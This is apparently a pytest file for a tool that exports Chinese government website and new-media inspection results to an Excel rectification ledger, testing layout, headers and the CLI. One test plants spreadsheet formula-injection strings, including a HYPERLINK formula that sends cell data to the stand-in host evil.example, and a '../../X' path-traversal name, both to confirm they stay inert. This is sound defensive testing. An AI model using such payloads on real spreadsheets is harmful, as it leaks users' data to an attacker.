"""整改台账 workbook: layout, Chinese headers, the seed's rows, and inert formula-like text."""

from __future__ import annotations

from pathlib import Path

import pytest

from govstats import registry

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def processed(tmp_path_factory) -> Path:
    from govstats.ingest import ingest

    out = tmp_path_factory.mktemp("processed")
    ingest(ROOT / "data" / "raw" / "咸阳市", out, workers=1)
    return out


@pytest.fixture(scope="module")
def seed_ledger(processed, tmp_path_factory) -> Path:
    from govstats.report.ledger import write_ledger_for

    return write_ledger_for("2025Q1", None, processed, tmp_path_factory.mktemp("ledger"))


def _rows(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows(min_row=2)]


def test_seed_ledger_layout(seed_ledger):
    from openpyxl import load_workbook

    assert seed_ledger.name == "2025Q1.xlsx"
    wb = load_workbook(seed_ledger)
    try:
        assert wb.sheetnames == ["整改台账", "汇总", "政府网站", "政务新媒体", "一致性检查"]
        for ws in wb:
            assert ws.freeze_panes == "A2"
            assert ws.auto_filter.ref == ws.dimensions
            assert all(c.font.bold for c in ws[1])
        web, nm = wb["政府网站"], wb["政务新媒体"]
        web_head, nm_head = [c.value for c in web[1]], [c.value for c in nm[1]]
        for col in ("site_name", "site_code", "problem", "problem_categories", "rectification", "region_name"):
            assert registry.WEBSITES.column(col).label_zh in web_head
        for col in ("account_name", "operator", "platform", "result", "problem", "rectification"):
            assert registry.NEW_MEDIA.column(col).label_zh in nm_head
        assert len(_rows(web)) == 5 and len(_rows(nm)) == 10  # the seed's 15 annex rows
        # list column joined with "；", vocabularies shown in Chinese
        cats = dict(zip(web_head, _rows(web)[0]))[registry.WEBSITES.column("problem_categories").label_zh]
        assert "；" in cats
        first = dict(zip(nm_head, _rows(nm)[0]))
        assert first["账号名称"] == "红色云阳" and first["平台"] == "微信公众号" and first["检查结果"] == "不合格"
        assert first["整改情况"] == "未整改"
        codes = [dict(zip(web_head, r))["网站标识码"] for r in _rows(web)]
        assert codes[0] == "6104810043"  # codes stay text
        # widths fit Chinese text: count CJK characters as 2
        col = web_head.index("网站名称")
        width = web.column_dimensions[chr(ord("A") + col)].width
        assert width >= 2 * len("咸阳市公安局交警支队")
        summary = dict(zip([c.value for c in wb["汇总"][1]], _rows(wb["汇总"])[0]))
        assert summary["新媒体合格率（通报）"] == 97.95 and summary["新媒体合格率（核算）"] == 97.95
        assert summary["未整改新媒体数（通报）"] == 4 and summary["未整改条目数（附件）"] == 4
        assert summary["反馈截止日期"].strftime("%Y-%m-%d") == "2025-02-28"
        assert len(_rows(wb["一致性检查"])) >= 1
        assert wb.properties.description.startswith("govstats ")
    finally:
        wb.close()


def test_display_width_counts_cjk_double():
    from govstats.report.ledger import display_width

    assert display_width("abc") == 3
    assert display_width("咸阳市") == 6
    assert display_width("（）") == 4


def test_formula_injection_is_inert(tmp_path, processed):
    from openpyxl import load_workbook

    from govstats.report.ledger import ledger_frames, write_ledger
    from govstats.store import read_tables

    t = read_tables(processed)
    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+2", "-3", "@SUM(A1:A9)"]
    nm = t["new_media"].copy()
    seed_rows = nm.index[nm["bulletin_id"] == "xianyang-2025q1"][: len(evil)]
    for i, text in zip(seed_rows, evil):
        nm.loc[i, "problem"] = text
    nm.loc[seed_rows[0], "account_name"] = "=1+1"
    t["new_media"] = nm
    path = write_ledger(ledger_frames(t, "2025Q1"), tmp_path / "evil.xlsx")
    wb = load_workbook(path)
    try:
        formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        ws = wb["政务新媒体"]
        head = [c.value for c in ws[1]]
        problems = [r[head.index("存在问题")] for r in _rows(ws)]
        assert problems[: len(evil)] == evil  # stored verbatim, as text
        col = chr(ord("A") + head.index("存在问题"))
        for c in ws[col][1 : len(evil) + 1]:
            assert c.data_type == "s" and c.quotePrefix
        assert ws[f"{chr(ord('A') + head.index('账号名称'))}2"].value == "=1+1"
    finally:
        wb.close()


def test_cli_ledger_prints_path_last(processed, tmp_path, capsys):
    from govstats.cli import main

    assert main(["ledger", "--quarter", "2025Q1", "--region", "咸阳市", "--data-dir", str(processed),
                 "--out", str(tmp_path)]) == 0
    last = capsys.readouterr().out.strip().splitlines()[-1]
    assert Path(last) == tmp_path / "2025Q1-咸阳市.xlsx" and Path(last).exists()
    assert main(["ledger", "--quarter", "2024Q2", "--data-dir", str(processed), "--out", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "2021Q1, 2025Q1" in err and len(err.strip().splitlines()) == 1


def test_check_not_made_is_labelled_not_checked(processed):
    """ok null (a check that could not be made) reads 无法核验 in 是否通过, not 否 and not blank."""
    import pandas as pd

    from govstats.report.labels import NOT_CHECKED_ZH, YES_NO_ZH
    from govstats.report.ledger import ledger_frames
    from govstats.store import read_tables

    t = read_tables(processed)
    ch = t["checks"].copy()
    row = ch[ch["bulletin_id"] == "xianyang-2025q1"].iloc[[0]].copy()
    row["check"], row["ok"], row["severity"] = "website_pass_rate_unmade", pd.NA, "info"
    t["checks"] = registry.coerce(pd.concat([ch, row], ignore_index=True), "checks")
    sheet = ledger_frames(t, "2025Q1")["checks"]
    ok_col = registry.CHECKS.labels()["ok"]
    by_check = dict(zip(sheet["检查项代码"], sheet[ok_col]))  # the check id, kept beside its Chinese label
    assert by_check["website_pass_rate_unmade"] == NOT_CHECKED_ZH
    assert set(by_check.values()) <= {YES_NO_ZH[True], YES_NO_ZH[False], NOT_CHECKED_ZH}


def test_a_region_from_the_data_cannot_lead_out_of_the_ledger_folder(processed, tmp_path):
    """The region names the file; "../../X" in the tables' region column stays a name under --out."""
    from govstats.report.ledger import write_ledger_for
    from govstats.store import read_tables

    tables = read_tables(processed)
    tables["bulletins"] = tables["bulletins"].assign(region=tables["bulletins"]["region"].replace("咸阳市", "../../X"))
    out = tmp_path / "out" / "sub"
    path = write_ledger_for("2025Q1", "../../X", processed, out, tables=tables)
    assert path.parent == out and path.name == "2025Q1-.._.._X.xlsx" and path.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_register_sheet_is_a_rectification_ledger(seed_ledger):
    """整改台账: 责任单位, 问题, 整改时限 from the feedback deadline, 整改措施 to fill in, 整改状态 as a drop-down."""
    import datetime as dt

    from openpyxl import load_workbook

    wb = load_workbook(seed_ledger)
    try:
        ws = wb["整改台账"]
        head = [c.value for c in ws[1]]
        for col in ("责任单位", "问题", "整改时限", "整改措施", "整改状态"):
            assert col in head, col
        rows = [dict(zip(head, r)) for r in _rows(ws)]
        assert len(rows) == 15  # the seed's 5 websites and 10 accounts
        assert all(r["整改时限"].date() == dt.date(2025, 2, 28) for r in rows)
        account = next(r for r in rows if r["名称"] == "红色云阳")
        assert account["责任单位"] and account["整改状态"] == "未整改" and account["整改措施"] is None
        col = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[head.index("整改状态")]
        dvs = [dv for dv in ws.data_validations.dataValidation if f"{col}2" in str(dv.sqref)]
        assert len(dvs) == 1 and dvs[0].type == "list"
        assert all(s in dvs[0].formula1 for s in ("已整改", "整改中", "未整改"))
        # checks by their Chinese labels, the id kept beside
        chk = wb["一致性检查"]
        chead = [c.value for c in chk[1]]
        labels = {dict(zip(chead, r))["检查项"] for r in _rows(chk)}
        assert "政务新媒体合格率" in labels and not any("_" in str(v) for v in labels)
    finally:
        wb.close()


def test_summary_says_no_annex_instead_of_zero_rows(tmp_path):
    """A bulletin read without its annex shows 无附件 in 汇总, not 0 rows; rates keep their printed decimals."""
    from openpyxl import load_workbook

    from govstats.ingest import ingest
    from govstats.report.ledger import write_ledger_for

    ingest(ROOT / "data" / "raw" / "吴忠市", tmp_path / "p", workers=1)
    wb = load_workbook(write_ledger_for("2025Q1", None, tmp_path / "p", tmp_path / "l"))
    try:
        ws = wb["汇总"]
        head = [c.value for c in ws[1]]
        row = dict(zip(head, [c for c in ws[2]]))
        assert row["网站附件行数"].value == "无附件" and row["新媒体附件行数"].value == "无附件"
        assert row["新媒体合格率（通报）"].value == 99.96 and row["新媒体合格率（通报）"].number_format == "0.00"
        assert row["新媒体合格率（核算）"].value == 96.89 and row["新媒体合格率（核算）"].number_format == "0.00"
    finally:
        wb.close()


def test_cli_takes_the_forms_officials_type(processed, tmp_path, capsys):
    """--quarter 2025年一季度 and --region 咸阳 work; an unknown region is one line with the nearest name."""
    from govstats.cli import main

    assert main(["ledger", "--quarter", "2025年一季度", "--region", "咸阳", "--data-dir", str(processed),
                 "--out", str(tmp_path)]) == 0
    assert capsys.readouterr().out.strip().splitlines()[-1] == str(tmp_path / "2025Q1-咸阳市.xlsx")
    assert main(["report", "--region", "咸阳县", "--quarter", "2025-Q1", "--data-dir", str(processed),
                 "--out", str(tmp_path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "did you mean 咸阳市?" in err[0]
